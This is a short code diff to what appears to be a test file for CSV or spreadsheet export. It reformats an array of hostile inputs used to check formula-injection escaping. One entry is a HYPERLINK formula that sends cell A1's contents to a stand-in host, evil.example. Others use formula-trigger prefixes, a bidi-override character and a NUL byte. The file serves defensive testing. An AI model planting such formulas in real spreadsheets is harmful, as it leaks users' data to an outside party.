@@ -9,7 +9,8 @@ const RUNS = /^[=+\-@\t\r]/;
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1, "click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "'=1+1", "'quoted'",
-  'a "quoted" word, and a comma', 'two\nlines', 'crlf\r\nline', 'trailing\r', 'وزير المالية قال', 'שלום\u202eevil', 'emoji 🤖👩🏽‍💻 here',
+  'a "quoted" word, and a comma', 'two\nlines', 'crlf\r\nline', 'trailing\r',
+  'وزير المالية قال', 'שלום\u202eevil', 'emoji 🤖👩🏽‍💻 here',
   '', ' =spaced', '\u0000nul', 'plain',
 ];
 
